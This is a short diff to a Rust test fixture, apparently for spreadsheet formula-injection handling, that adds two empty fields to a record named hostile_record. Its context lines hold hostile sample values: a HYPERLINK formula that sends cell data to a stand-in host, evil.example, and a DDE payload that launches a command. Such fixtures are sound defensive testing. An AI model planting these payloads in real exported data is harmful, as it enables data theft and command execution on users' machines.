@@ -55,6 +55,8 @@ fn hostile_record() -> StoredResponse {
         submitted_at: chorus::domain::time::rfc3339_of_id(id),
         language: Some("=HYPERLINK(\"http://evil.example/?\"&A1,\"es\")".into()),
         submission_id: None,
+        channel: None,
+        kiosk: None,
         answers: [
             ("aware", text("yes")),
             ("comments", text("@SUM(1+1)*cmd|' /C calc'!A0")),
